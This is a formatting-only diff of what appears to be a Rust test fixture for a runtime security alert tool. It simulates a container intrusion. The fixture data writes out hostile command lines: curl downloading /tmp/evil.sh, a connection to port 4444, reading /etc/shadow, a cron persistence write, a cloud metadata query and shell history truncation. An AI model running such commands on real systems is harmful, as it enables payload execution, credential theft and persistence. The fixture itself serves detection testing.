@@ -9,9 +9,7 @@ use eyas_event::{
     RulesetHash, WallTime,
 };
 
-use super::door::{
-    Detail, FilterProblem, Gap, Histogram, Pulse, Query, Question, Reply, RuleSource, Sensor,
-};
+use super::door::{Detail, FilterProblem, Gap, Histogram, Pulse, Query, Question, Reply, RuleSource, Sensor};
 
 /// 2026-11-22 14:03:00 UTC.
 pub(crate) const BEGIN: u64 = 1_795_356_180_000_000_000;
@@ -42,7 +40,8 @@ impl World {
 
     fn ask(&self, query: &Query) -> Reply {
         let meets = |filter: &Option<Arc<str>>| {
-            let compiled = filter.as_ref().map(|f| compile(f).expect("only filters that compiled are asked for"));
+            let compiled =
+                filter.as_ref().map(|f| compile(f).expect("only filters that compiled are asked for"));
             move |a: &Arc<Alert>| compiled.as_ref().is_none_or(|f| f.meets(a))
         };
         match query {
@@ -154,12 +153,33 @@ pub(crate) fn shell(n: u64, priority: Priority, rule: &str, comm: &str) -> Alert
 }
 
 /// An alert by a process, with the web server's line as its ancestors.
-pub(crate) fn made(n: u64, priority: Priority, rule: &str, user: &str, own: Process, message: String) -> Alert {
+pub(crate) fn made(
+    n: u64,
+    priority: Priority,
+    rule: &str,
+    user: &str,
+    own: Process,
+    message: String,
+) -> Alert {
     let container = own.container.to_string();
     let ancestors = [
-        process(2_117, "sh", &["sh", "-c", "curl -o /tmp/evil.sh http://127.0.0.1:8000/evil.sh"], "/usr/bin/dash", 33, &container),
+        process(
+            2_117,
+            "sh",
+            &["sh", "-c", "curl -o /tmp/evil.sh http://127.0.0.1:8000/evil.sh"],
+            "/usr/bin/dash",
+            33,
+            &container,
+        ),
         process(1_204, "php-fpm8.2", &["php-fpm: pool www"], "/usr/sbin/php-fpm8.2", 33, &container),
-        process(1_190, "php-fpm8.2", &["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"], "/usr/sbin/php-fpm8.2", 0, &container),
+        process(
+            1_190,
+            "php-fpm8.2",
+            &["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"],
+            "/usr/sbin/php-fpm8.2",
+            0,
+            &container,
+        ),
         process(1, "systemd", &["/sbin/init", "splash"], "/usr/lib/systemd/systemd", 0, "host"),
     ];
     let time = WallTime(BEGIN + n * SECOND);
@@ -208,17 +228,99 @@ pub(crate) fn incident() -> Vec<Arc<Alert>> {
     let pod = "3f2a9c81d07e";
     let p = |pid: u32, comm: &str, argv: &[&str], exe: &str| process(pid, comm, argv, exe, 33, pod);
     let rows: Vec<(u64, Priority, &str, &str, Process, String)> = vec![
-        (2, Priority::Notice, "Shell spawned in a container", "www-data", p(4_010, "sh", &["sh", "-c", "id; uname -a"], "/usr/bin/dash"), "A shell was spawned in a container (command=sh -c id; uname -a parent=php-fpm8.2)".into()),
-        (9, Priority::Warning, "Download tool writes below /tmp", "www-data", p(4_012, "curl", &["curl", "-o", "/tmp/evil.sh", "http://127.0.0.1:8000/evil.sh"], "/usr/bin/curl"), "curl wrote /tmp/evil.sh (command=curl -o /tmp/evil.sh http://127.0.0.1:8000/evil.sh)".into()),
-        (14, Priority::Notice, "Outbound connection by an interpreter", "www-data", p(4_013, "python3", &["python3", "-c", "import socket"], "/usr/bin/python3.11"), "python3 connected to 203.0.113.9:4444".into()),
-        (21, Priority::Error, "Program run from /tmp", "www-data", p(4_015, "evil.sh", &["/bin/bash", "/tmp/evil.sh"], "/usr/bin/bash"), "A program was run from /tmp (file=/tmp/evil.sh parent=sh)".into()),
-        (22, Priority::Critical, "Sensitive file read", "root", process(4_016, "c", &["/tmp/c", "/etc/shadow"], "/tmp/c", 0, pod), "/etc/shadow was read by /tmp/c (user=root parent=evil.sh)".into()),
-        (22, Priority::Error, "Program run from /tmp", "root", process(4_016, "c", &["/tmp/c", "/etc/shadow"], "/tmp/c", 0, pod), "A program was run from /tmp (file=/tmp/c parent=evil.sh)".into()),
-        (38, Priority::Warning, "Write below /etc", "root", process(4_020, "tee", &["tee", "-a", "/etc/cron.d/update"], "/usr/bin/tee", 0, "host"), "tee wrote /etc/cron.d/update".into()),
-        (39, Priority::Critical, "Scheduled task changed", "root", process(4_020, "tee", &["tee", "-a", "/etc/cron.d/update"], "/usr/bin/tee", 0, "host"), "/etc/cron.d/update was changed by tee (parent=evil.sh)".into()),
-        (55, Priority::Notice, "Cloud metadata contacted", "www-data", p(4_024, "curl", &["curl", "-s", "http://169.254.169.254/latest/meta-data/"], "/usr/bin/curl"), format!("curl connected to {}:80", Ipv4Addr::new(169, 254, 169, 254))),
-        (71, Priority::Informational, "Package manager in a container", "root", process(4_031, "apt-get", &["apt-get", "install", "-y", "nmap"], "/usr/bin/apt-get", 0, pod), "apt-get ran in a container".into()),
-        (80, Priority::Warning, "Shell history truncated", "root", process(4_040, "bash", &["bash"], "/usr/bin/bash", 0, pod), "/root/.bash_history was truncated by bash".into()),
+        (
+            2,
+            Priority::Notice,
+            "Shell spawned in a container",
+            "www-data",
+            p(4_010, "sh", &["sh", "-c", "id; uname -a"], "/usr/bin/dash"),
+            "A shell was spawned in a container (command=sh -c id; uname -a parent=php-fpm8.2)".into(),
+        ),
+        (
+            9,
+            Priority::Warning,
+            "Download tool writes below /tmp",
+            "www-data",
+            p(
+                4_012,
+                "curl",
+                &["curl", "-o", "/tmp/evil.sh", "http://127.0.0.1:8000/evil.sh"],
+                "/usr/bin/curl",
+            ),
+            "curl wrote /tmp/evil.sh (command=curl -o /tmp/evil.sh http://127.0.0.1:8000/evil.sh)".into(),
+        ),
+        (
+            14,
+            Priority::Notice,
+            "Outbound connection by an interpreter",
+            "www-data",
+            p(4_013, "python3", &["python3", "-c", "import socket"], "/usr/bin/python3.11"),
+            "python3 connected to 203.0.113.9:4444".into(),
+        ),
+        (
+            21,
+            Priority::Error,
+            "Program run from /tmp",
+            "www-data",
+            p(4_015, "evil.sh", &["/bin/bash", "/tmp/evil.sh"], "/usr/bin/bash"),
+            "A program was run from /tmp (file=/tmp/evil.sh parent=sh)".into(),
+        ),
+        (
+            22,
+            Priority::Critical,
+            "Sensitive file read",
+            "root",
+            process(4_016, "c", &["/tmp/c", "/etc/shadow"], "/tmp/c", 0, pod),
+            "/etc/shadow was read by /tmp/c (user=root parent=evil.sh)".into(),
+        ),
+        (
+            22,
+            Priority::Error,
+            "Program run from /tmp",
+            "root",
+            process(4_016, "c", &["/tmp/c", "/etc/shadow"], "/tmp/c", 0, pod),
+            "A program was run from /tmp (file=/tmp/c parent=evil.sh)".into(),
+        ),
+        (
+            38,
+            Priority::Warning,
+            "Write below /etc",
+            "root",
+            process(4_020, "tee", &["tee", "-a", "/etc/cron.d/update"], "/usr/bin/tee", 0, "host"),
+            "tee wrote /etc/cron.d/update".into(),
+        ),
+        (
+            39,
+            Priority::Critical,
+            "Scheduled task changed",
+            "root",
+            process(4_020, "tee", &["tee", "-a", "/etc/cron.d/update"], "/usr/bin/tee", 0, "host"),
+            "/etc/cron.d/update was changed by tee (parent=evil.sh)".into(),
+        ),
+        (
+            55,
+            Priority::Notice,
+            "Cloud metadata contacted",
+            "www-data",
+            p(4_024, "curl", &["curl", "-s", "http://169.254.169.254/latest/meta-data/"], "/usr/bin/curl"),
+            format!("curl connected to {}:80", Ipv4Addr::new(169, 254, 169, 254)),
+        ),
+        (
+            71,
+            Priority::Informational,
+            "Package manager in a container",
+            "root",
+            process(4_031, "apt-get", &["apt-get", "install", "-y", "nmap"], "/usr/bin/apt-get", 0, pod),
+            "apt-get ran in a container".into(),
+        ),
+        (
+            80,
+            Priority::Warning,
+            "Shell history truncated",
+            "root",
+            process(4_040, "bash", &["bash"], "/usr/bin/bash", 0, pod),
+            "/root/.bash_history was truncated by bash".into(),
+        ),
     ];
     rows.into_iter()
         .enumerate()
@@ -238,7 +340,11 @@ pub(crate) fn pulse(alerts: u64) -> Pulse {
         hooks: vec![
             hook("tp_btf/sched_process_exec", "programs run", HookState::On),
             hook("tp_btf/sched_process_exit", "processes end", HookState::On),
-            hook("tp_btf/sys_exit", "opens and connections", HookState::Off("the kernel has no BTF".to_owned())),
+            hook(
+                "tp_btf/sys_exit",
+                "opens and connections",
+                HookState::Off("the kernel has no BTF".to_owned()),
+            ),
         ],
         events_per_s: 1_203,
         events: 90_412,
